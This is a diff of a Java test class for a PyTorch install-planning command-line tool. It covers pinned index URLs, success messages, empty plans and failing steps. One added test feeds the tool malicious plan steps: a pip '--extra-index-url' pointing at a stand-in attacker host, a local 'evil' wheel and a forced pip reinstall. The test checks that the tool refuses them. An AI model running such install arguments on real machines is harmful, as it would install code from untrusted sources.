@@ -23,6 +23,12 @@ import tools.jackson.databind.json.JsonMapper;
 class InstallCommandTest {
 
     private static final String PLAN = Resources.text("/plans/cu126-with-pypi-step.json");
+    /** The plan for torch (and torchvision) alone: no second step. */
+    private static final String PYTORCH_ONLY_PLAN = "{\"backend\":\"cu126\",\"channel\":\"stable\",\"packages\":["
+            + "{\"name\":\"torch\",\"version\":\"2.12.0+cu126\"},{\"name\":\"torchvision\",\"version\":\"0.27.0+cu126\"}],"
+            + "\"steps\":[{\"description\":\"PyTorch\",\"argv\":[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+            + "\"https://download.pytorch.org/whl/cu126\",\"torch==2.12.0+cu126\",\"torchvision==0.27.0+cu126\"]}],"
+            + "\"explanation\":[],\"warnings\":[]}";
 
     @TempDir
     Path directory;
@@ -79,30 +85,33 @@ class InstallCommandTest {
                 List.of("-m", "pip", "install", "--index-url", "https://pypi.org/simple", "transformers",
                         "torch==2.12.0+cu126", "torchvision==0.27.0+cu126"));
         assertThat(run.out()).contains(python.path() + " -m pip install --index-url https://download.pytorch.org/whl/cu126")
-                .contains("torchplan: installed torch 2.12.0+cu126, torchvision 0.27.0+cu126 into " + python.path());
+                .contains("torchplan: " + python.path() + " now has torch 2.12.0+cu126, torchvision 0.27.0+cu126, "
+                        + "transformers 1.0");
     }
 
     @Test
     void theFirstFailingStepEndsTheInstallWithItsExitCode() {
         answer(planWithSteps(
-                "[\"python\",\"-m\",\"pip\",\"install\",\"torch==2.12.0+cpu\"]",
-                "[\"python\",\"-m\",\"pip\",\"install\",\"fail==9\"]",
-                "[\"python\",\"-m\",\"pip\",\"install\",\"never-installed==1.0\"]"));
+                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://download.pytorch.org/whl/cpu\","
+                        + "\"torch==2.12.0+cpu\"]",
+                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://pypi.org/simple\",\"fail==9\"]",
+                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://pypi.org/simple\","
+                        + "\"never-installed==1.0\"]"));
 
-        CommandLineRun run = install("torch");
+        CommandLineRun run = install("torch", "fail", "never-installed");
 
-        assertThat(run.exitCode()).isEqualTo(9);
+        assertThat(run.exitCode()).as(run.err()).isEqualTo(9);
         assertThat(python.invocations()).containsExactly(
-                List.of("-m", "pip", "install", "torch==2.12.0+cpu"),
-                List.of("-m", "pip", "install", "fail==9"));
-        assertThat(run.out()).contains("step 2 (step 2) failed with exit code 9").doesNotContain("torchplan: installed");
+                List.of("-m", "pip", "install", "--index-url", "https://download.pytorch.org/whl/cpu", "torch==2.12.0+cpu"),
+                List.of("-m", "pip", "install", "--index-url", "https://pypi.org/simple", "fail==9"));
+        assertThat(run.out()).contains("step 2 (step 2) failed with exit code 9").doesNotContain("now has");
     }
 
     @Test
     void pipRunsWithTheEnvironmentTheClientWasGiven() {
         environment = Map.of("TORCHPLAN_URL", server.url("/").toString(), "TORCHPLAN_NO_GPU", "1",
                 "PIP_CONFIG_FILE", "/dev/null");
-        answer(PLAN);
+        answer(PYTORCH_ONLY_PLAN);
 
         CommandLineRun run = install("torch");
 
@@ -114,7 +123,7 @@ class InstallCommandTest {
     void dryRunPrintsTheCommandsAndRunsNothing() {
         answer(PLAN);
 
-        CommandLineRun run = install("torch", "--dry-run");
+        CommandLineRun run = install("torch", "transformers", "--dry-run");
 
         assertThat(run.exitCode()).isZero();
         assertThat(python.invocations()).isEmpty();
@@ -135,6 +144,82 @@ class InstallCommandTest {
     }
 
     @Test
+    void aStepReadingAnotherIndexOrInstallingALocalFileOrPipMeansNothingRuns() {
+        String pytorchStep = "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://download.pytorch.org/whl/cpu\",\"torch==2.12.0+cpu\"]";
+        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://pypi.org/simple\",\"--extra-index-url\",\"https://evil.example/simple\",\"numpy\"]"));
+        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://pypi.org/simple\",\"evil-1.0-py3-none-any.whl\"]"));
+        answer(planWithSteps(pytorchStep, "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://pypi.org/simple\",\"--upgrade\",\"--force-reinstall\",\"pip\"]"));
+        answer(planWithSteps("[\"uv\",\"pip\",\"install\",\"--python\",\"python\",\"--index-url\","
+                + "\"https://download.pytorch.org/whl/cpu\",\"--index-strategy\",\"unsafe-best-match\",\"torch==2.12.0+cpu\"]"));
+
+        CommandLineRun extraIndex = install("torch", "numpy");
+        CommandLineRun localFile = install("torch", "numpy");
+        CommandLineRun pipUpgrade = install("torch", "numpy");
+        CommandLineRun indexStrategy = install("torch", "--installer", "uv");
+
+        assertThat(List.of(extraIndex.exitCode(), localFile.exitCode(), pipUpgrade.exitCode(), indexStrategy.exitCode()))
+                .containsOnly(3);
+        assertThat(python.invocations()).isEmpty();
+        assertThat(extraIndex.err()).contains("refusing to run step 2 of the plan: --extra-index-url "
+                + "https://evil.example/simple is not one of the plan's indexes");
+        assertThat(localFile.err()).contains("'evil-1.0-py3-none-any.whl' is not a requirement by name");
+        assertThat(pipUpgrade.err()).contains("option '--upgrade'");
+        assertThat(indexStrategy.err()).contains("uv's --index-strategy");
+    }
+
+    @Test
+    void theSuccessLineSaysWhatTheInterpreterHasNotWhatThePlanSaid() throws IOException {
+        // as if another torch had been installed before, and pip had kept it: the plan's pins are not the news
+        Files.writeString(directory.resolve("installed.txt"), "torch 2.9.1+cpu\n");
+        answer(planWithSteps("[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\","
+                + "\"https://download.pytorch.org/whl/cpu\",\"torch==2.12.0+cpu\"]",
+                "[\"python\",\"-m\",\"pip\",\"install\",\"--index-url\",\"https://pypi.org/simple\",\"fail==0\"]"));
+        Path fakeWithoutRecord = directory.resolve("python");
+        String script = Files.readString(fakeWithoutRecord).replace("*==*) printf", "torch==*) ;; *==*) printf");
+        Files.writeString(fakeWithoutRecord, script);
+
+        CommandLineRun run = install("torch", "fail");
+
+        assertThat(run.exitCode()).as(run.err()).isZero();
+        // the fake exits at fail==0 before it records an install: the interpreter does not see it
+        assertThat(run.out()).contains("torchplan: " + python.path() + " now has torch 2.9.1+cpu (the plan named "
+                + "2.12.0+cpu); " + python.path() + " does not see fail (installed elsewhere, with --target, --prefix "
+                + "or --root?)");
+    }
+
+    @Test
+    void anEmptyPlanSaysSoAndExitsWithItsOwnCode() {
+        answer("{\"backend\":null,\"channel\":\"stable\",\"packages\":[],\"steps\":[],"
+                + "\"explanation\":[\"no requirement applies to this machine: nothing to install\"],\"warnings\":[]}");
+        answer("{\"backend\":null,\"channel\":\"stable\",\"packages\":[],\"steps\":[],\"explanation\":[],\"warnings\":[]}");
+
+        CommandLineRun run = install("pywin32; sys_platform == 'win32'");
+        CommandLineRun dryRun = install("pywin32; sys_platform == 'win32'", "--dry-run");
+
+        assertThat(run.exitCode()).isEqualTo(ExitCodes.NOTHING_TO_INSTALL).isEqualTo(5);
+        assertThat(dryRun.exitCode()).isEqualTo(5);
+        assertThat(run.out()).contains("no requirement applies to this machine",
+                "torchplan: the plan has no steps: nothing to install for these requirements on this machine")
+                .doesNotContain("now has");
+        assertThat(python.invocations()).isEmpty();
+    }
+
+    @Test
+    void pinsWithoutStepsAreAnUnusablePlan() {
+        answer("{\"backend\":\"cpu\",\"channel\":\"stable\",\"packages\":[{\"name\":\"torch\",\"version\":"
+                + "\"2.12.0+cpu\"}],\"steps\":[],\"explanation\":[],\"warnings\":[]}");
+
+        CommandLineRun run = install("torch");
+
+        assertThat(run.exitCode()).isEqualTo(3);
+        assertThat(run.err()).contains("has no step that installs them");
+    }
+
+    @Test
     void uvStepsArePointedAtTheInterpreter() {
         answer(planWithSteps("[\"uv\",\"pip\",\"install\",\"--index-url\",\"https://download.pytorch.org/whl/cpu\","
                 + "\"torch==2.12.0+cpu\"]"));
@@ -151,7 +236,7 @@ class InstallCommandTest {
         Files.writeString(directory.resolve("base.txt"), "numpy>=2  # arrays\n");
         Path file = Files.writeString(directory.resolve("requirements.txt"),
                 "# ML\ntorchvision \\\n  >=0.20\n-r base.txt\n");
-        answer(PLAN);
+        answer(PYTORCH_ONLY_PLAN);
 
         CommandLineRun run = install("torch", "-r", file.toString(), "--dry-run");
 
@@ -164,7 +249,7 @@ class InstallCommandTest {
     void anIndexLineInARequirementsFileIsReplacedByThePlansIndexesWithANotice() throws IOException {
         Path file = Files.writeString(directory.resolve("requirements.txt"),
                 "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n");
-        answer(PLAN);
+        answer(PYTORCH_ONLY_PLAN);
 
         CommandLineRun run = install("-r", file.toString());
 
@@ -284,18 +369,19 @@ class InstallCommandTest {
                 "VIRTUAL_ENV", venv.toString());
         answer(PLAN);
 
-        CommandLineRun run = CommandLineRun.run(environment, "install", "torch");
+        CommandLineRun run = CommandLineRun.run(environment, "install", "torch", "transformers");
 
         assertThat(run.exitCode()).as(run.err()).isZero();
         assertThat(venvPython.invocations()).hasSize(2);
-        assertThat(run.out()).contains("into " + venv.resolve("bin/python"));
+        assertThat(run.out()).contains(venv.resolve("bin/python") + " now has torch 2.12.0+cu126");
     }
 
     @Test
     void systemInstallsIntoPython3OnPath() {
         answer(PLAN);
 
-        CommandLineRun run = CommandLineRun.run(environment, "install", "--system", "torch", "--dry-run");
+        CommandLineRun run = CommandLineRun.run(environment, "install", "--system", "torch", "transformers",
+                "--dry-run");
 
         assertThat(run.exitCode()).as(run.err()).isZero();
         assertThat(run.out()).contains("    python3 -m pip install --index-url https://download.pytorch.org/whl/cu126");
